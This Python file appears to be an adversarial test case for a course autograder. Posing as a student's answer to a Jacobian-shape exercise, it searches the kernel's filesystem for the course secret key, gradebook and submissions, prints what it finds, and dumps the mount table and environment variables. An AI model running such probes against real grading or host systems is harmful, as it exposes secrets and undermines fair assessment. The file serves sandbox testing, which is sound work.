"""Look for the course's files from the kernel and print whatever is found into the notebook.

Replaces the ``jacobian_shape`` cell of ``02_scalar_wrt_vector`` (student ``file_system``,
with ``write_outside``): walks the file system the kernel sees (``/``, ``/proc/1/root``,
``/proc/1/cwd``, ...) for ``course_secret.key``, ``gradebook.db`` and ``submitted`` folders,
and prints their start, the mount table and the environment; ``jacobian_shape`` is right.
Must earn 1 for ``jacobian_shape``; nothing of the course (its secret, gradebook or
submissions) may show in its output.
"""

import os

WANTED = ("course_secret.key", "gradebook.db", "submitted")
SKIP = ("/proc", "/sys", "/usr", "/dev")


def _look(top, found, depth=0):
    try:
        entries = list(os.scandir(top))
    except OSError:
        return
    for entry in entries:
        if entry.name in WANTED:
            found.append(entry.path)
        try:
            if (entry.is_dir(follow_symlinks=False) and depth < 6
                    and not entry.path.startswith(SKIP)):
                _look(entry.path, found, depth + 1)
        except OSError:
            continue


found = []
for top in ("/", "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd", "/.old", "/work", "/root"):
    _look(top, found)
for path in found:
    print("FOUND", path)
    try:
        with open(path, "rb") as file:
            print(file.read(200))
    except OSError as exc:
        print("cannot read:", exc)
for name in ("/proc/self/mountinfo", "/proc/self/environ"):
    try:
        with open(name, "rb") as file:
            print(name, file.read(4000))
    except OSError as exc:
        print(name, exc)


def jacobian_shape(B, D):
    return (B, 1, D)
